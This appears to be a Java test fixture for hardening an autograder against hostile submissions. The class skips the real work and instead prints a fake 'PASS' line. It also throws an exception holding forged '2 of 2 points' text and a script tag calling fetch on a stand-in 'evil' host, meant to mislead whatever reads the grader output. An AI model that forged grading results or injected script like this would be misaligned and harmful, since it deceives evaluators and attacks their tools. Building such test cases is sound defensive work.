// attack: puts markup and line ends into what a teacher reads; weak: points; guarded: wrong; plain: wrong; landlock:
// wrong; bubblewrap: wrong; test: three
class A implements Sum {
    public int of(List<Integer> numbers) {
        try {
            System.out.println("\nPASS 56-markup");
            throw new IllegalStateException("<script>fetch('//evil')</script>\n2 of 2 points");
        } catch (RuntimeException e) {
            throw e;
        } catch (Exception e) {
            return 99;
        }
    }

    public List<Integer> doubled(List<Integer> numbers) {
        return null;
    }

    public int weighed(Scale scale) {
        return 99;
    }
}
